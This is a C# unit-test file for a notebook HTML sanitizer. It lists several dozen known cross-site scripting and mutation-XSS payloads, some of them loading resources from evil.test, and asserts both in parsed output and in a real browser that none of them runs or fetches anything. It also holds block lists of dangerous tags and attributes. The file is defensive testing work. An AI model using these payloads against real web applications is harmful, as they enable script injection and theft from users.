// HTML that a notebook brings: what is harmless stays, known attacks come to nothing, in the parsed result and in a real browser.
using System.Text;
using System.Text.Json.Nodes;

namespace AdEMAMix.Notebooks.Tests;

public sealed class HtmlSanitizerTests : IDisposable
{
    /// <summary>Attacks that have worked somewhere; each calls hit() or fetches something where it is not stopped.</summary>
    public static readonly string[] Attacks =
    [
        "<script>hit(1)</script>",
        "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>",
        "<img src=x onerror=hit(2)>",
        "<img src=\"x\" OnErRoR = \"hit(3)\">",
        "<img/src=x/onerror=hit(4)>",
        "<svg onload=hit(5)>",
        "<svg><script>hit(6)</script></svg>",
        "<svg><animate onbegin=hit(7) attributeName=x dur=1s>",
        "<svg><a xlink:href=\"javascript:hit(8)\"><text x=20 y=20>x</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>hit(9)</script></svg>#x\"></use></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.hit(10)</script>'></iframe></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hit(11)&gt;\">",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=hit(12)>",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=hit(13) src>\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=hit(14)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=hit(15)>\">",
        "<noembed><p title=\"</noembed><img src=x onerror=hit(16)>\">",
        "<xmp><p title=\"</xmp><img src=x onerror=hit(17)>\"></xmp>",
        "<iframe srcdoc=\"<script>parent.hit(18)</script>\"></iframe>",
        "<iframe src=\"javascript:parent.hit(19)\"></iframe>",
        "<object data=\"javascript:hit(20)\"></object><embed src=\"javascript:hit(21)\">",
        "<a href=\"javascript:hit(22)\">x</a>",
        "<a href=\"&#106;avascript:hit(23)\">x</a>",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;script&colon;hit(24)\">x</a>",
        "<a href=\" \u0001javascript:hit(25)\">x</a>",
        "<a href=\"java\tscr\nipt:hit(26)\">x</a>",
        "<a href=\"JaVaScRiPt:hit(27)\">x</a>",
        "<a href=\"vbscript:hit(28)\">x</a><a href=\"data:text/html,<script>hit(29)</script>\">x</a>",
        "<a href=\"feed:javascript:hit(30)\">x</a>",
        "<form action=\"javascript:hit(31)\"><button>x</button><input type=image src=x formaction=javascript:hit(32)></form>",
        "<isindex action=javascript:hit(33) type=image>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:hit(34)\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.test/\">",
        "<base href=\"http://evil.test/\">",
        "<link rel=stylesheet href=http://evil.test/x.css><link rel=prefetch href=http://evil.test/>",
        "<style>@import 'http://evil.test/x.css'; body { background: url(http://evil.test/y) }</style>",
        "<div style=\"background:url(http://evil.test/z)\">x</div>",
        "<div style=\"background:\\75rl(http://evil.test/z)\">x</div>",
        "<div style=\"width: expression(hit(35))\">x</div>",
        "<div style=\"-moz-binding:url(http://evil.test/x.xml#x)\">x</div>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">cover</div>",
        "<img src=http://evil.test/pixel.gif>",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit(36)'/>\">",
        "<img srcset=\"http://evil.test/a 1x\"><picture><source srcset=http://evil.test/b><img src=x></picture>",
        "<video src=http://evil.test/v onerror=hit(37)><source onerror=hit(38)></video><audio src=x onerror=hit(39)>",
        "<video poster=http://evil.test/p></video>",
        "<body onload=hit(40) background=http://evil.test/bg>",
        "<table background=\"http://evil.test/t\"><td background=\"javascript:hit(41)\">x",
        "<input autofocus onfocus=hit(42)><select autofocus onfocus=hit(43)><textarea autofocus onfocus=hit(44)>",
        "<details open ontoggle=hit(45)>x</details><marquee onstart=hit(46)>x</marquee>",
        "<!--><img src=x onerror=hit(47)>-->",
        "<!-- --!><img src=x onerror=hit(48)> -->",
        "<![CDATA[<img src=x onerror=hit(49)>]]>",
        "<?xml-stylesheet href=\"javascript:hit(50)\"?><?x <img src=x onerror=hit(51)>?>",
        "<template><img src=x onerror=hit(52)></template>",
        "<a id=Plotly name=body><img name=getElementById id=cookie><form id=hit><input name=attributes></form>",
        "</div></section></main><script>hit(53)</script>",
        "<plaintext><script>hit(54)</script>",
        "<title><img title=\"</title><img src=x onerror=hit(55)>\"></title>",
        "<p title='\"><img src=x onerror=hit(56)>'>x</p>",
        "<div><!-- <!-- --> <img src=x onerror=hit(57)> --></div>",
        "<keygen autofocus onfocus=hit(58)><x onclick=hit(59)>x</x><x style=animation-name:x onanimationstart=hit(60)>",
        "<svg><style><img src=x onerror=hit(61)></style></svg>",
        "<svg><title><a title=\"</title><img src=x onerror=hit(62)>\"></title></svg>",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src=y onerror=hit(63)>\">",
    ];

    readonly string _folder = Directory.CreateTempSubdirectory("notebook-sanitizer-").FullName;

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Theory]
    [InlineData("<b>x</b> &amp; y", "<b>x</b> &amp; y")]
    [InlineData("<p class=a id=b onclick=x() style='color:red;position:fixed'>kept</p>", "<p style=\"color:red\">kept</p>")]
    [InlineData("<table border=1><tr><td colspan=2>1<td style='text-align:right'>2", "<table border=\"1\"><tbody><tr><td colspan=\"2\">1</td><td style=\"text-align:right\">2</td></tr></tbody></table>")]
    [InlineData("<tr><td>no table</td></tr>", "no table")]
    [InlineData("<unknown>text <em>and more</em></unknown>", "text <em>and more</em>")]
    [InlineData("<style>p{}</style>after", "after")]
    [InlineData("<a href='https://arxiv.org/abs/2409.03137' target=_blank>paper</a><a href='#x'>y</a>", "<a href=\"https://arxiv.org/abs/2409.03137\">paper</a><a href=\"#x\">y</a>")]
    [InlineData("<img src='data:image/png;base64,AQID' alt='a \"b\"' onerror=x>", "<img alt=\"a &quot;b&quot;\" src=\"data:image/png;base64,AQID\">")]
    [InlineData("<img src='plot.png' alt='a plot'>", "<span class=\"missing\">[a plot: not in this page]</span>")]
    [InlineData("<details open><summary>more</summary><pre>a\n b</pre></details>", "<details open=\"\"><summary>more</summary><pre>a\n b</pre></details>")]
    [InlineData("<progress value=3 max=10></progress>", "<progress max=\"10\" value=\"3\"></progress>")]
    [InlineData("half <b>open", "half <b>open</b>")]
    [InlineData("<div style=\"background:linear-gradient(90deg,#0072B2 30%,transparent 30%);padding:1px 2px\">x</div>", "<div style=\"background:linear-gradient(90deg,#0072B2 30%,transparent 30%);padding:1px 2px\">x</div>")]
    [InlineData("<div style=\"margin:-900px 0 0 0;color:var(--x);font-family:'A B', serif\">x</div>", "<div style=\"font-family:&#39;A B&#39;, serif\">x</div>")]
    public void Harmless_HTML_stays_and_the_rest_goes(string html, string clean) => Assert.Equal(clean, HtmlSanitizer.OfOutput(html));

    [Fact]
    public void A_drawing_becomes_an_image_without_scripts()
    {
        var html = HtmlSanitizer.OfOutput("<svg width=10 height=10><title>A dot</title><script>hit()</script><circle r=5 onclick=hit() /></svg>");
        Assert.StartsWith("<img alt=\"A dot\" src=\"data:image/svg+xml;base64,", html);
        var svg = Encoding.UTF8.GetString(Convert.FromBase64String(html.Split("base64,")[1].TrimEnd('"', '>')));
        Assert.DoesNotContain("<script", svg);
        Assert.Contains("<circle", svg);
        Assert.Equal("svg", System.Xml.Linq.XElement.Parse(svg).Name.LocalName);
    }

    public static TheoryData<string> AllAttacks => [.. Attacks];

    [Theory]
    [MemberData(nameof(AllAttacks))]
    public void Of_an_attack_nothing_is_left_that_could_act(string attack)
    {
        foreach (var html in new[] { HtmlSanitizer.OfOutput(attack), HtmlSanitizer.OfProse(attack) })
        {
            var body = HtmlSanitizer.Parse(html);
            foreach (var element in body.QuerySelectorAll("*"))
            {
                Assert.Equal("http://www.w3.org/1999/xhtml", element.NamespaceUri);
                Assert.DoesNotContain(element.LocalName, (string[])["script", "style", "iframe", "object", "embed", "form", "input", "meta", "base", "link", "template", "noscript"]);
                foreach (var attribute in element.Attributes)
                {
                    Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), html);
                    Assert.DoesNotContain(attribute.Name, (string[])["srcdoc", "srcset", "formaction", "action", "poster", "background", "name"]);
                    if (attribute.Name is "src") Assert.StartsWith("data:image/", attribute.Value);
                    if (attribute.Name is "href") Assert.Matches("^(https?:|mailto:|#|[^:]*$)", attribute.Value);
                    if (attribute.Name is "style") Assert.DoesNotMatch("(?i)url|expression|position|import|binding", attribute.Value);
                }
            }
            // Read once more it is the same: a browser sees what was checked.
            Assert.Equal(Unmarked(html), Unmarked(HtmlSanitizer.OfProse(html)));
        }
    }

    [Fact]
    public void In_a_browser_no_attack_runs_fetches_or_complains()
    {
        using var browser = Browser.Start();
        // Without any policy, so that it is the sanitizer that is seen, and with a mouse over and on every link.
        var bare = new StringBuilder("<!DOCTYPE html><meta charset=utf-8><link rel=icon href=data:,><script>var hits = []; function hit(n) { hits.push(n); } window.addEventListener('error', function (e) { hits.push('error ' + e.message); });</script><body>");
        foreach (var attack in Attacks) bare.Append("<div>").Append(HtmlSanitizer.OfOutput(attack)).Append("</div><div>").Append(HtmlSanitizer.OfProse(attack)).Append("</div>\n");
        var path = Path.Combine(_folder, "bare.html");
        File.WriteAllText(path, bare.ToString());
        browser.Navigate().GoToUrl(new Uri(path).AbsoluteUri);
        var address = browser.Url;
        browser.ExecuteScript("document.querySelectorAll('*').forEach(function (e) { ['mouseover', 'focus', 'toggle', 'load', 'error', 'animationstart'].forEach(function (n) { e.dispatchEvent(new Event(n)); }); }); document.querySelectorAll('a').forEach(function (a) { if (!/^https?:|^mailto:/.test(a.href)) a.click(); });");
        Assert.Equal("", browser.ExecuteScript("return hits.join()"));
        Assert.Equal(address, browser.Url.Split('#')[0]);
        Assert.Equal(0, browser.Requests());
        Assert.Empty(browser.Complaints());

        // And as a page is made: outputs, Markdown, and what a front end stored as LaTeX.
        var document = Notebooks.Of([("#", "# Attacks"), .. Attacks.Select(attack => ("#", attack)), .. Attacks.Select(_ => ("", "1"))]);
        var cells = document.Cells.Where(cell => cell.Kind == CellKind.Code).ToArray();
        for (var i = 0; i < Attacks.Length; i++)
            foreach (var mime in (string[])["text/html", "text/markdown", "text/latex", "text/plain"])
                cells[i].Json["outputs"]!.AsArray().Add((JsonNode)new JsonObject { ["data"] = new JsonObject { [mime] = Attacks[i] }, ["metadata"] = new JsonObject(), ["output_type"] = "display_data" });
        path = Path.Combine(_folder, "page.html");
        File.WriteAllText(path, HtmlRenderer.Render(document, new RenderOptions { Tools = Browser.Tools }));
        browser.Navigate().GoToUrl(new Uri(path).AbsoluteUri);
        Assert.Equal("Attacks", browser.Title);
        Assert.Equal("undefined", browser.ExecuteScript("return typeof window.hits"));
        Assert.Equal(0, browser.Requests());
        Assert.Empty(browser.Complaints());
    }

    [Theory]
    [InlineData("<div>", 100_000)]
    [InlineData("<b>", 8_000)]
    [InlineData("<table><tr><td>", 5_000)]
    [InlineData("<svg><g>", 9_900)]
    [InlineData("<a href=x>", 3_000)]
    [InlineData("<p>line<br>", 50_000)]
    public void Deep_nesting_neither_overflows_nor_hangs(string tag, int times)
    {
        var text = new StringBuilder();
        for (var i = 0; i < times; i++) text.Append(tag);
        Assert.True(HtmlSanitizer.OfOutput(text.Append("end").ToString()).Length < 10_000_000);
    }

    [Fact]
    public void Random_markup_gives_the_same_when_it_is_cleaned_twice()
    {
        var random = new Random(7);
        string[] pieces = ["<", ">", "</", "/>", "\"", "'", "=", " ", "&", ";", "#", "-", "!", "--", "a", "b", "p", "svg", "math", "mtext", "style", "script", "table", "td", "img", "src", "onerror", "href", "title", "x", "\0", "]]>", "<!--", "<![CDATA[", "&lt;", "javascript:", "data:image/png;base64,AA", "é"];
        for (var i = 0; i < 20_000; i++)
        {
            var text = new StringBuilder();
            for (var n = random.Next(1, 40); n > 0; n--) text.Append(pieces[random.Next(pieces.Length)]);
            var once = HtmlSanitizer.OfOutput(text.ToString());
            Assert.DoesNotMatch("(?i)<(script|svg|math|style|iframe)|<[^>]*\\son[a-z]+=", once);
            Assert.Equal(Unmarked(once), Unmarked(HtmlSanitizer.OfOutput(once)));
        }
    }

    // The note in place of a picture has a class of the page's own, which foreign HTML may not have.
    static string Unmarked(string html) => html.Replace(" class=\"missing\"", "", StringComparison.Ordinal);
}
